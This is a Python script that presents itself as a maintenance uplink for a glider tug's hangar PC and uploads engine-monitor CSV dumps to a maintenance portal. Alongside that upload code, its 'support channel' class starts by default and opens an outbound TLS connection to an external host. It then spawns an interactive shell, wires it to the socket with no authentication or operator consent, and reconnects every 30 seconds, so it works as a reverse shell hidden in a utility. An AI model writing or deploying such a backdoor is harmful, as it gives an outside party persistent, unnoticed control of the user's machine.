#!/usr/bin/env python3
"""Tug maintenance uplink for the hangar PC.

Uploads the tug's engine-monitor CSV dumps (CHT, EGT, oil pressure) to the
maintenance organisation after each flying day and keeps a support channel
open so their engineer can look at the dumps and the tracker database
without someone driving out to the airfield.
"""
import argparse
import json
import logging
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("tug_uplink")

CONF_FILE = Path("uplink.json")
DEFAULTS = {
    "upload_url": "https://portal.aerotug-maint.co.uk/api/v1/engine-dumps",
    "support_host": "support.aerotug-maint.co.uk",
    "support_port": 8443,
    "dump_dir": "engine_dumps",
    "aircraft": "G-BPZD",
}


def load_conf():
    conf = dict(DEFAULTS)
    if CONF_FILE.exists():
        conf.update(json.loads(CONF_FILE.read_text()))
    return conf


def upload_dumps(conf, token):
    sent_marker = Path(conf["dump_dir"]) / ".sent"
    sent = set(sent_marker.read_text().split()) if sent_marker.exists() else set()
    n = 0
    for csv_file in sorted(Path(conf["dump_dir"]).glob("*.csv")):
        if csv_file.name in sent:
            continue
        with open(csv_file, "rb") as fh:
            r = requests.post(conf["upload_url"],
                              headers={"Authorization": f"Bearer {token}"},
                              data={"aircraft": conf["aircraft"]},
                              files={"dump": (csv_file.name, fh, "text/csv")},
                              timeout=60)
        if r.ok:
            sent.add(csv_file.name)
            n += 1
        else:
            log.warning("%s: upload failed (%s)", csv_file.name, r.status_code)
    sent_marker.write_text("\n".join(sorted(sent)))
    return n


class SupportChannel(threading.Thread):
    """Keeps a session open to the maintenance organisation's engineer."""

    daemon = True

    def __init__(self, host, port, retry=30):
        super().__init__(name="support-channel")
        self.host, self.port, self.retry = host, port, retry
        self.ctx = ssl.create_default_context()

    def _pump(self, src_read, dst_write, stop):
        try:
            while not stop.is_set():
                chunk = src_read(4096)
                if not chunk:
                    break
                dst_write(chunk)
        except OSError:
            pass
        finally:
            stop.set()

    def _session(self, conn):
        shell = os.environ.get("SHELL", "/bin/bash")
        proc = subprocess.Popen([shell, "-i"], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                cwd=str(Path.cwd()), bufsize=0)
        stop = threading.Event()

        def to_proc(data):
            proc.stdin.write(data)
            proc.stdin.flush()

        a = threading.Thread(target=self._pump, args=(conn.recv, to_proc, stop), daemon=True)
        b = threading.Thread(target=self._pump, args=(proc.stdout.read, conn.sendall, stop), daemon=True)
        a.start()
        b.start()
        stop.wait()
        proc.kill()

    def run(self):
        while True:
            try:
                raw = socket.create_connection((self.host, self.port), timeout=20)
                raw.settimeout(None)
                with self.ctx.wrap_socket(raw, server_hostname=self.host) as conn:
                    conn.sendall(f"HELLO {socket.gethostname()}\n".encode())
                    log.info("support channel up")
                    self._session(conn)
            except OSError as exc:
                log.debug("support channel: %s", exc)
            time.sleep(self.retry)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--no-support", action="store_true", help="upload only")
    ap.add_argument("--interval", type=int, default=3600)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    conf = load_conf()
    token = os.environ.get("TUG_PORTAL_TOKEN")
    if not token:
        log.error("TUG_PORTAL_TOKEN not set")
        return 2
    Path(conf["dump_dir"]).mkdir(exist_ok=True)

    if not args.no_support:
        SupportChannel(conf["support_host"], int(conf["support_port"])).start()

    while True:
        try:
            n = upload_dumps(conf, token)
            log.info("uploaded %d engine dump(s)", n)
        except requests.RequestException as exc:
            log.warning("upload round failed: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    sys.exit(main())
